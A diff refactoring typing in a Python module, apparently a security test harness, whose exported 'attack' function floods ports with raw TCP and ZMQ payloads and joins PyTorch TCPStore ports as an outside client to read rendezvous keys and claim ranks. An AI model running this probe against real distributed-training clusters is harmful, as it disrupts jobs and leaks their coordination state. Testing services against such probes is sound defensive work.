@@ -18,6 +18,7 @@ import socket
 import sys
 import threading
 import time
+from typing import TypedDict
 
 __all__ = ["attack"]
 
@@ -69,18 +70,28 @@ def _zmq_push(context, host: str, port: int, frames: list[bytes]) -> None:
         push.close(linger=0)
 
 
-def _store_probe(host: str, port: int, written: set[str]) -> dict[str, object]:
+class _Probe(TypedDict, total=False):
+    store: bool
+    """The port spoke the TCPStore protocol."""
+    keys_found: list[str]
+    """Rendezvous keys it let the outsider read."""
+
+
+def _store_probe(host: str, port: int, written: set[str]) -> _Probe:
     """Join ``port`` as a TCPStore client; try to read rendezvous state (keys it did not
     write itself: ``written``) and to claim every rank. A port that is no store may never
     answer the client's handshake: given up after 2 s."""
-    result: dict[str, object] = {}
+    result: _Probe = {}
 
     def probe() -> None:
         import torch.distributed as dist
 
         try:
-            store = dist.TCPStore(host, port, is_master=False,
-                                  timeout=datetime.timedelta(seconds=1), wait_for_workers=False)
+            # public API, but torch.distributed re-exports it without ``__all__``/``as``
+            store = dist.TCPStore(  # pyright: ignore[reportPrivateImportUsage]
+                host, port, is_master=False, timeout=datetime.timedelta(seconds=1),
+                wait_for_workers=False,
+            )
         except Exception:  # not a store
             return
         found = [key for key in _GUESSED_KEYS
@@ -93,7 +104,7 @@ def _store_probe(host: str, port: int, written: set[str]) -> dict[str, object]:
     worker = threading.Thread(target=probe, daemon=True)
     worker.start()
     worker.join(2.0)
-    return dict(result)
+    return result.copy()
 
 
 def _quiet(function, *args):
@@ -112,7 +123,9 @@ def attack(
     import zmq
 
     context = zmq.Context()
-    report: dict[str, object] = {"rounds": 0, "stores": [], "keys_found": []}
+    rounds = 0
+    stores: list[int] = []
+    keys_found: list[str] = []
     written: dict[int, set[str]] = {}
     deadline = time.monotonic() + seconds
     try:
@@ -123,15 +136,15 @@ def attack(
                 for payload in payloads:
                     _raw_tcp(host, port, payload)
                 probe = _store_probe(host, port, written.setdefault(port, set()))
-                if probe.get("store") and port not in report["stores"]:
-                    report["stores"].append(port)
-                report["keys_found"] += probe.get("keys_found", [])
-            report["rounds"] += 1
-            if report["rounds"] == 1:
+                if probe.get("store") and port not in stores:
+                    stores.append(port)
+                keys_found += probe.get("keys_found", [])
+            rounds += 1
+            if rounds == 1:
                 print("ready", flush=True)
     finally:
         context.term()
-    return report
+    return {"rounds": rounds, "stores": stores, "keys_found": keys_found}
 
 
 if __name__ == "__main__":
